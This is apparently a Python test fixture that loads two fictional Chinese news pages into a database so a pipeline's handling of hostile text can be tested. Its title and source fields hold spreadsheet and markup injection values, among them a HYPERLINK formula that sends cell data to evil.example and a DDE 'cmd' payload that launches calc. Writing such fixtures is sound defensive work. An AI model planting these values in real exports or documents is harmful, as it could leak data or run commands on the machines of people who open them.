"""A database holding pages whose text attacks what shows or exports it: Rich markup that
closes tags never opened, spreadsheet formulas at the start of a title, a 来源 line and
sentences. Stored through the real write path (real extraction and detection)."""

from __future__ import annotations

from datetime import UTC, datetime

from db.engine import data_dir_for, open_database, resolve_db_url, session_scope
from db.rawstore import RawStore
from db.store import CaptureRecord, SourceInfo, ensure_source, store_batch
from pipelines.text.detect import Detector
from pipelines.text.extract import extract_document

SLUG = "hostile-text"
PUBLISHER = "[/bold]示范网（虚构）"
TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"[/bold]点击")'
MARKUP_SENTENCE = ("今年以来，示范县有组织转移南疆四地州农村富余劳动力1200人[/bold]，"
                   "赴示范工厂集中培训后上岗。")
FORMULA_SENTENCE = ("=1+2 示范县劳动力转移就业工作领导小组要求各乡镇落实目标责任状，"
                    "确保完成转移就业目标任务。")
MINUS_SENTENCE = "-3+4喀什地区有组织转移农村富余劳动力300人赴示范工厂务工。"
ORIGIN = "@SUM(1+9)*cmd|' /C calc'!A0"
QUIET_TITLE = "[/i]棉花价格[bold]观察"  # an unflagged page (for missed-evidence marks)


def _html(title: str, info: str, paragraphs: list[str]) -> bytes:
    escaped = title.replace("&", "&amp;").replace("<", "&lt;")
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (f'<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{escaped}'
            f'</title></head><body><h1>{escaped}</h1><div class="info">{info}</div>'
            f'<div class="body">{body}</div></body></html>').encode()


PAGES = {
    "t1": _html(TITLE, f"来源：{ORIGIN} 发布时间：2024-05-01",
                [MARKUP_SENTENCE, FORMULA_SENTENCE, MINUS_SENTENCE]),
    "t2": _html(QUIET_TITLE, "发布时间：2024-05-02", ["今年棉花价格[/bold]上涨，市场平稳。"]),
}


def _record(name: str, body: bytes) -> CaptureRecord:
    url = f"http://127.0.0.1:9/hostile/{name}.html"
    extracted = extract_document(body, "text/html; charset=utf-8", url)
    return CaptureRecord(
        source=SLUG, url=url, final_url=url, fetched_at=datetime.now(UTC), http_status=200,
        headers={"Content-Type": ["text/html; charset=utf-8"]},
        content_type="text/html; charset=utf-8", body=body, extracted=extracted,
        detection=Detector().detect(extracted.text))


def store_hostile_text(db: str) -> None:
    """Store the hostile pages into ``db`` (created when missing)."""
    url = resolve_db_url(db)
    engine = open_database(url)
    with session_scope(engine) as session:
        ensure_source(session, SourceInfo(SLUG, PUBLISHER, "state_media", "zh", "listing"))
        store_batch(session, RawStore(data_dir_for(url)),
                    [_record(name, body) for name, body in PAGES.items()], None)
    engine.dispose()
